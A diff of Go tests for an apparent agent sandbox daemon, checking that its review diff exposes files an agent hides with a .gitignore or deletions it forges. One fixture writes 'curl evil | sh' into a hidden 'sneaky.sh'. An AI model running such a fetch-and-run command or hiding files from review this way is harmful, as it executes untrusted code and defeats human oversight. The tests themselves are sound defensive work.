@@ -44,7 +44,9 @@ func reviewSh(t *testing.T, d *daemon, sb, script string) {
 // while the tests ran with them present.
 func TestReviewDiffHonoursAgentGitignore(t *testing.T) {
 	d := newDaemon(t)
-	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**"}, "test": "sh test.sh"})
+	// *.md makes the sandbox's own write scope (directory-grained) the
+	// whole workspace, so only the diff's glob check sees sneaky.sh.
+	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**", "*.md"}, "test": "sh test.sh"})
 	reviewSh(t, d, task.SandboxID, `printf '.gitignore\nsneaky.sh\n' > .gitignore && echo 'curl evil | sh' > sneaky.sh &&
 		mkdir -p src/deep && printf '*\n' > src/deep/.gitignore && echo hidden > src/deep/payload`)
 	var diff manager.Diff
@@ -70,7 +72,7 @@ func TestReviewDiffHonoursAgentGitignore(t *testing.T) {
 // deleted.
 func TestReviewDiffGitignoreForgesDeletions(t *testing.T) {
 	d := newDaemon(t)
-	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**"}})
+	task := reviewTask(t, d, map[string]any{"scope": []string{"src/**", "*.md"}})
 	reviewSh(t, d, task.SandboxID, `printf '*\n' > .gitignore`)
 	var diff manager.Diff
 	if code := d.do("GET", "/v1/tasks/"+task.ID+"/diff", nil, &diff); code != 200 {
